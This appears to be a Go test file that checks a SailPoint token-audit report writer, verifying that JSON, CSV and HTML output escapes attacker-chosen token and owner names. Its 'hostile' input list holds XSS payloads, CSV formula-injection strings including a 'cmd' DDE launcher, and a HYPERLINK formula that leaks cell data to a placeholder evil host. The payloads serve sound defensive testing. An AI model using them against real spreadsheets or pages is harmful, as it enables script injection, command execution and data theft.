package report_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"errors"
	"html"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"github.com/sailpoint-go/sailpoint"
	"github.com/sailpoint-go/sailpoint/lifecycle"
	"github.com/sailpoint-go/sailpoint/lifecycle/report"
	"github.com/sailpoint-go/sailpoint/sailpointtest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func ptr[T any](v T) *T { return &v }

var at = time.Date(2026, 3, 1, 12, 30, 0, 0, time.FixedZone("", 3600))

// small has a finding about a token with every member, one about a token with
// few members, and one about an owner.
func small() *lifecycle.Report {
	owner := sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o1", Name: "Ana"}
	full := sailpoint.PersonalAccessToken{
		ID: "t1", Name: "nightly", Scope: []string{"a", "b"}, Owner: owner, Created: at.AddDate(0, -8, 0), LastUsed: ptr(at.AddDate(0, -5, 0)),
		ExpirationDate: ptr(at.AddDate(0, -2, 0)), AccessTokenValiditySeconds: 900,
	}
	return &lifecycle.Report{
		At: at, Tokens: 12, Counts: map[lifecycle.Kind]int{lifecycle.FindingStale: 1, lifecycle.FindingExpired: 1, lifecycle.FindingNoExpiry: 1, lifecycle.FindingNearLimit: 1},
		Policy: lifecycle.AuditPolicy{NeverUsedAfter: time.Hour, StaleAfter: 2 * time.Hour, ExpiringWithin: 3 * time.Hour, MaxBearer: 4 * time.Hour, NearLimit: 8, Grace: 5 * time.Hour},
		Owners: []lifecycle.OwnerTotal{{Owner: owner, Tokens: 9, Managed: 1, Findings: 3}, {Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}, Tokens: 2, Findings: 1}},
		Findings: []lifecycle.Finding{
			{Kind: lifecycle.FindingStale, Token: full, Text: "Stale."},
			{Kind: lifecycle.FindingExpired, Token: full, Text: "Expired."},
			{Kind: lifecycle.FindingNoExpiry, Token: sailpoint.PersonalAccessToken{ID: "t2", Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}}, Text: "No expiry reported."},
			{Kind: lifecycle.FindingNearLimit, Token: sailpoint.PersonalAccessToken{Owner: owner}, Text: "Near."},
		},
	}
}

type writer = func(io.Writer, *lifecycle.Report, report.Options) error

var acme = report.Options{Tenant: "acme.api.identitynow.com"}

// write returns the written text.
func write(t *testing.T, to writer, r *lifecycle.Report) string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, to(&out, r, acme))
	return out.String()
}

// TestNoReport checks that a nil report or an unnamed tenant is an error, and
// that an empty report is written.
func TestNoReport(t *testing.T) {
	for name, to := range map[string]writer{
		"json": report.WriteJSON, "csv": report.WriteCSV, "html": report.WriteHTML,
	} {
		var out bytes.Buffer
		require.ErrorIs(t, to(&out, nil, acme), sailpoint.ErrInvalidArgument, name)
		require.EqualError(t, to(&out, small(), report.Options{Tenant: " "}),
			"sailpoint: invalid argument: Options.Tenant is empty: name the tenant that was audited", name)
		require.Zero(t, out.Len(), name)
		require.NotEmpty(t, write(t, to, &lifecycle.Report{}), name)
	}
}

func TestJSON(t *testing.T) {
	const ana = `"owner":{"type":"IDENTITY","id":"o1","name":"Ana"}`
	const nobody = `"owner":{"type":"IDENTITY","id":"o2","name":""}`
	const full = `"token":{"id":"t1","name":"nightly","scope":["a","b"],` + ana + `,"created":"2025-07-01T12:30:00+01:00",` +
		`"lastUsed":"2025-10-01T12:30:00+01:00","expirationDate":"2026-01-01T12:30:00+01:00","accessTokenValiditySeconds":900}`
	want := `{"tenant":"acme.api.identitynow.com","demo":false,"at":"2026-03-01T11:30:00Z",` +
		`"policy":{"neverUsedAfterSeconds":3600,"staleAfterSeconds":7200,"expiringWithinSeconds":10800,"maxBearerSeconds":14400,"nearLimit":8,"graceSeconds":18000},` +
		`"tokens":12,"counts":{"expired":1,"near-limit":1,"no-expiry":1,"stale":1},` +
		`"owners":[{` + ana + `,"tokens":9,"managed":1,"findings":3},{` + nobody + `,"tokens":2,"managed":0,"findings":1}],` +
		`"findings":[{"kind":"stale","text":"Stale.",` + ana + `,` + full + `},{"kind":"expired","text":"Expired.",` + ana + `,` + full + `},` +
		`{"kind":"no-expiry","text":"No expiry reported.",` + nobody + `,"token":{"id":"t2","name":"","scope":[],` + nobody + `,"created":"0001-01-01T00:00:00Z"}},` +
		`{"kind":"near-limit","text":"Near.",` + ana + `}]}`
	assert.Equal(t, want, regexp.MustCompile(`\n\t*|(": )`).ReplaceAllStringFunc(write(t, report.WriteJSON, small()), strings.TrimSpace))
	assert.Contains(t, write(t, report.WriteJSON, &lifecycle.Report{}), `"findings": []`, "of an empty report")
}

func TestCSV(t *testing.T) {
	assert.Equal(t, `tenant,time,demo,kind,finding,token_id,token_name,owner_id,owner_name,created,last_used,expires,scope,bearer_seconds,managed
acme.api.identitynow.com,2026-03-01T11:30:00Z,false,stale,Stale.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900,false
acme.api.identitynow.com,2026-03-01T11:30:00Z,false,expired,Expired.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900,false
acme.api.identitynow.com,2026-03-01T11:30:00Z,false,no-expiry,No expiry reported.,t2,,o2,,,,,,,false
acme.api.identitynow.com,2026-03-01T11:30:00Z,false,near-limit,Near.,,,o1,Ana,,,,,,
`, write(t, report.WriteCSV, small()))
}

// hostile lists names that an attacker could give a token or an owner.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `</title></style></script><script>alert(1)</script>`,
	`</td></tr></table><h1>x`, `{{.Token}}`, `javascript:alert(1)`, `<!--`, `]]>`, "a\x00b", "a\u202eexe.txt", "a\xff", "<svg/onload=alert(1)>",
	`=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `x;=1+1`, `x,=1+1`, "x\t=1+1", `x";=1+1;"`, `"=1+1`, `'=1+1`, `＝1+1`, `x|@SUM(1)`,
	"x\u2028=1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff=1+1", "\v=1+1", "\u0085=1+1", "\u009f@SUM(1)", " \t\r =1+1", "x;\u00a0=1+1", "﹦1+1", "\u22121+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
}

// reportOf has each text in every place that an owner can choose.
func reportOf(texts []string) *lifecycle.Report {
	r := &lifecycle.Report{At: at, Tokens: len(texts), Counts: map[lifecycle.Kind]int{lifecycle.FindingNoExpiry: len(texts)}}
	for _, text := range texts {
		owner := sailpoint.PersonalAccessTokenOwner{Type: text, ID: text, Name: text}
		r.Owners = append(r.Owners, lifecycle.OwnerTotal{Owner: owner, Tokens: 9})
		r.Findings = append(r.Findings,
			lifecycle.Finding{Kind: lifecycle.FindingNoExpiry, Text: text, Token: sailpoint.PersonalAccessToken{ID: "id" + text, Name: text, Owner: owner, Scope: []string{text}}},
			lifecycle.Finding{Kind: lifecycle.Kind(text), Text: text, Token: sailpoint.PersonalAccessToken{Owner: owner}})
	}
	return r
}

// TestHostileNamesInCSV checks that no cell is a formula. It covers programs
// that split lines at commas, semicolons or tabs, with or without quotes.
func TestHostileNamesInCSV(t *testing.T) {
	out := write(t, report.WriteCSV, reportOf(hostile))
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 1+2*len(hostile))
	require.Equal(t, 1+2*len(hostile), strings.Count(out, "\n"), "a line for each finding")
	formula := regexp.MustCompile(`^[\s\pZ\p{Cf}"]*[=+\-@＝＋－＠﹢﹣﹦﹫−]`)
	for _, record := range records {
		for _, cell := range record {
			assert.NotRegexp(t, formula, cell)
		}
	}
	for _, separator := range []string{",", ";", "\t", "|", "\n"} {
		for cell := range strings.SplitSeq(out, separator) {
			assert.NotRegexp(t, formula, cell)
		}
	}
	assert.Contains(t, out, `'=cmd|' /C calc'!A0`)
	assert.NotRegexp(t, `[\x00-\x09\x0b-\x1f]`, out)
}

// TestIDsInCSVStayText checks that a spreadsheet treats IDs as text, because it
// would keep only 15 digits. bearer_seconds stays a number, and a time stays a
// time.
func TestIDsInCSVStayText(t *testing.T) {
	for text, want := range map[string]string{
		"12345678901234567890123456789012": "'12345678901234567890123456789012",
		"123456789012":                     "'123456789012",
		"123456789e10":                     "'123456789e10",
		"2E5":                              "'2E5",
		"1.5e+300":                         "'1.5e+300",
		"007":                              "'007",
		"1.10":                             "'1.10",
		"0,50":                             "'0,50",
		" 007 ":                            "' 007 ", //nolint:gocritic // the spaces matter
		"12345678901":                      "12345678901",
		"0":                                "0",
		"900":                              "900",
		"2c9180867817ac4d017817c491119a20": "2c9180867817ac4d017817c491119a20",
		"1e10a":                            "1e10a",
		"v1.5":                             "v1.5",
	} {
		r := &lifecycle.Report{At: at, Findings: []lifecycle.Finding{{Token: sailpoint.PersonalAccessToken{
			ID: text, Name: text, Owner: sailpoint.PersonalAccessTokenOwner{ID: text, Name: text}, Scope: []string{text}, AccessTokenValiditySeconds: 43200,
		}}}}
		records, err := csv.NewReader(strings.NewReader(write(t, report.WriteCSV, r))).ReadAll()
		require.NoError(t, err)
		assert.Equal(t, []string{"acme.api.identitynow.com", "2026-03-01T11:30:00Z", "false", "", "", want, want, want, want, "", "", "", want, "43200", "false"}, records[1], text)
	}
}

// TestCSVHasNoByteOrderMark guards most programs, which would treat a byte
// order mark as part of the first title.
func TestCSVHasNoByteOrderMark(t *testing.T) {
	assert.True(t, strings.HasPrefix(write(t, report.WriteCSV, small()), "tenant,"))
}

func TestHostileNamesInJSON(t *testing.T) {
	out := write(t, report.WriteJSON, reportOf(hostile))
	assert.NotContains(t, out, "<")
	assert.NotContains(t, out, ">")
	assert.Contains(t, out, `"name": "\u003cscript\u003ealert(1)\u003c/script\u003e"`)
}

// TestHostileNamesInHTML checks that names are shown as text and add nothing to
// the page.
func TestHostileNamesInHTML(t *testing.T) {
	out := write(t, report.WriteHTML, reportOf(hostile))
	content := withoutAssets(t, out)
	var harmless []string
	for i, text := range hostile {
		if text != "" {
			text = strconv.Itoa(i)
		}
		harmless = append(harmless, text)
	}
	tags := regexp.MustCompile(`<(/?[a-zA-Z!][^\s>]*)`)
	assert.Equal(t, tags.FindAllString(withoutAssets(t, write(t, report.WriteHTML, reportOf(harmless))), -1), tags.FindAllString(content, -1), "the same tags as with harmless names")
	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "<script"))
	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "</script"))
	unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(content, `""`)
	assert.Empty(t, regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`).FindString(unquoted), "no tag may have an event handler")
	shown := html.UnescapeString(content)
	for _, text := range hostile {
		if text == "" || strings.ContainsRune(text, 0) || !utf8.ValidString(text) {
			continue
		}
		assert.True(t, strings.Contains(shown, "<bdi>"+text+"</bdi>"), "%.40q must be shown unchanged, in its own text direction", text) //nolint:testifylint // Contains would print the page
	}
}

// withoutAssets returns the page without its style and script. It checks that
// the content security policy allows only these two.
func withoutAssets(t *testing.T, page string) string {
	t.Helper()
	found := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
	require.NotNil(t, found)
	policy := html.UnescapeString(found[1])
	assert.True(t, strings.HasPrefix(policy, "default-src 'none'; "), policy)
	assert.NotContains(t, policy, "unsafe")
	for _, name := range []string{"style", "script"} {
		asset := regexp.MustCompile(`(?s)<` + name + `>(.*?)</` + name + `>`).FindStringSubmatch(page)
		require.NotNil(t, asset, name)
		sum := sha256.Sum256([]byte(asset[1]))
		assert.Contains(t, policy, name+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "the hash of this asset")
		page = strings.Replace(page, asset[1], "", 1)
		assert.NotRegexp(t, `(?i)url\(|@import|https?:|fetch|import\(|innerHTML|eval`, asset[1])
	}
	return page
}

func TestHTMLLoadsNothing(t *testing.T) {
	content := withoutAssets(t, write(t, report.WriteHTML, small()))
	assert.Equal(t, []string{`href="data:,"`}, regexp.MustCompile(`(?i)\b(?:src|href|srcset|action|data|poster|xlink:href)="[^"]*"`).FindAllString(content, -1))
	assert.NotRegexp(t, `(?i)https?:|<iframe|<object|<embed|<base`, content)
}

// TestEveryFormatNamesTheDemo checks the marks of invented data, and that a
// tenant's name is escaped like a token's.
func TestEveryFormatNamesTheDemo(t *testing.T) {
	demo := func(to writer) string {
		var out bytes.Buffer
		require.NoError(t, to(&out, small(), report.Options{Tenant: "=<b>", Demo: true}))
		return out.String()
	}
	assert.Contains(t, demo(report.WriteJSON), `"tenant": "=\u003cb\u003e",`+"\n\t"+`"demo": true,`)
	assert.Equal(t, 4, strings.Count(demo(report.WriteCSV), "\n'=<b>,2026-03-01T11:30:00Z,true,"))
	page := demo(report.WriteHTML)
	assert.Contains(t, page, `<title>DEMO: Personal access tokens of =&lt;b&gt;, 2026-03-01 11:30 UTC</title>`)
	assert.Contains(t, page, `<h1><strong class="demo">DEMO</strong> Personal access tokens of <bdi>=&lt;b&gt;</bdi></h1>`)
	assert.Contains(t, page, "This is a demo.")
	assert.NotContains(t, withoutAssets(t, write(t, report.WriteHTML, small())), "demo")
}

// TestHTMLShowsTheLimits checks the units of the policy's limits.
func TestHTMLShowsTheLimits(t *testing.T) {
	limits := func(p lifecycle.AuditPolicy) (texts []string) {
		page := withoutAssets(t, write(t, report.WriteHTML, &lifecycle.Report{At: at, Policy: p}))
		for _, found := range regexp.MustCompile(`<dt>(.*?)</dt><dd>(.*?)</dd>`).FindAllStringSubmatch(page, -1) {
			texts = append(texts, found[1]+": "+found[2])
		}
		return texts
	}
	const day = 24 * time.Hour
	assert.Equal(t, []string{
		"Owners: all", "Never used: after 30 days", "Long unused: after 90 days", "Expires soon: within 1 day",
		"Long bearers: over 12 hours", "Owner near the limit: from 8 tokens", "Unfinished rotation: at any age",
	}, limits(lifecycle.AuditPolicy{NeverUsedAfter: 30 * day, StaleAfter: 90 * day, ExpiringWithin: day, MaxBearer: 12 * time.Hour, NearLimit: 8}))
	assert.Equal(t, []string{
		"Owners: only &lt;i1&gt;", "Never used: after 36 hours", "Long unused: after 90 minutes", "Expires soon: within 1.5 seconds",
		"Long bearers: over 1 minute", "Owner near the limit: from 1 token", "Unfinished rotation: after 1 hour",
	}, limits(lifecycle.AuditPolicy{
		OwnerID: "<i1>", NeverUsedAfter: 36 * time.Hour, StaleAfter: 90 * time.Minute, ExpiringWithin: 1500 * time.Millisecond,
		MaxBearer: time.Minute, NearLimit: 1, Grace: time.Hour,
	}))
	assert.Equal(t, "Owners: only the client’s own", limits(lifecycle.AuditPolicy{OwnerID: sailpoint.OwnerMe})[0])
}

func TestHTMLShowsTheReport(t *testing.T) {
	content := withoutAssets(t, write(t, report.WriteHTML, small()))
	for _, want := range []string{
		"As of 2026-03-01 11:30 UTC. The audit covered 12 tokens of 2 owners. <strong>2</strong> have findings.",
		`data-kind="expired" aria-pressed="false" class="bad" disabled><span>Expired</span>`,
		`<bdi>Ana</bdi> <em class="chip warn">near the limit</em>`,
		`<b>9</b> tokens, 1 managed, 3 findings`,
		`<bdi>o2</bdi></span>`, // an owner without a name
		`<tr role="row" data-kinds="stale expired">`,
		`<em class="chip idle">Long unused</em> Stale.`,
		`<td role="cell" data-sort="0">never</td>`,
		`<td role="cell" data-sort="9007199254740992">not reported</td>`,
		`<title>July 2025: 1 created</title>`,
		`<title>January 2026: 1 expired</title>`,
		`1 expired, <i class="ends"></i>0 will expire, 1 without a reported expiry`,
		`<tr role="row" data-kinds="near-limit" data-owner>`,
	} {
		assert.Contains(t, content, want)
	}
	assert.Contains(t, write(t, report.WriteHTML, &lifecycle.Report{At: at}), "No findings.")
}

// TestHTMLCountsInWords checks the singular, and that a managed token isn't
// counted as one with findings.
func TestHTMLCountsInWords(t *testing.T) {
	owner := sailpoint.PersonalAccessTokenOwner{ID: "o"}
	page := write(t, report.WriteHTML, &lifecycle.Report{At: at, Tokens: 1, Owners: []lifecycle.OwnerTotal{{Owner: owner, Tokens: 1, Findings: 1}}, Findings: []lifecycle.Finding{
		{Kind: lifecycle.FindingManaged, Token: sailpoint.PersonalAccessToken{ID: "m", Owner: owner, Managed: true}},
		{Kind: lifecycle.FindingExpired, Token: sailpoint.PersonalAccessToken{ID: "e", Owner: owner}},
	}})
	assert.Contains(t, page, "The audit covered 1 token of 1 owner. <strong>1</strong> has findings.")
	assert.Contains(t, page, "<b>1</b> token, 1 finding<")
}

// TestTimeLineStaysOnThePage checks tokens with extreme dates.
func TestTimeLineStaysOnThePage(t *testing.T) {
	r := &lifecycle.Report{At: at}
	for i, year := range []int{-1, 1, 1970, 2024, 2026, 2027, 2100, 9999} {
		when := time.Date(year, 2, 3, 4, 5, 6, 7, time.UTC)
		r.Findings = append(r.Findings, lifecycle.Finding{Kind: lifecycle.FindingStale, Token: sailpoint.PersonalAccessToken{
			ID: string(rune('a' + i)), Created: when, LastUsed: &when, ExpirationDate: &when,
		}})
	}
	content := withoutAssets(t, write(t, report.WriteHTML, r))
	for _, number := range regexp.MustCompile(`\b(?:x|x1|cx)="([^"]*)"`).FindAllStringSubmatch(content, -1) {
		assert.Regexp(t, `^(\d|[1-9]\d|[1-6]\d\d|7[01]\d|720)$`, number[1])
	}
	assert.NotRegexp(t, `(width|height)="-`, content)
	assert.Equal(t, 8, strings.Count(content, "<circle"))
	assert.Less(t, len(content), 50_000, "thousands of empty months must not be drawn")
}

// TestReportOfATenant checks that an audit's report holds no secret, and that a
// failed write is reported.
func TestReportOfATenant(t *testing.T) {
	tenant := sailpointtest.NewTenant()
	client, err := sailpoint.NewClient(tenant.Config())
	require.NoError(t, err)
	r, err := lifecycle.Audit(t.Context(), client, lifecycle.AuditPolicy{})
	require.NoError(t, err)
	for name, to := range map[string]writer{"JSON": report.WriteJSON, "CSV": report.WriteCSV, "HTML": report.WriteHTML} {
		out := write(t, to, r)
		assert.Contains(t, out, tenant.Config().ClientID, name)
		assert.NotContains(t, out, tenant.Config().ClientSecret.Reveal(), name)
		broken := errors.New("disk full")
		assert.ErrorIs(t, to(failingWriter{broken}, r, acme), broken, name)
	}
}

type failingWriter struct{ err error }

func (f failingWriter) Write([]byte) (int, error) { return 0, f.err }
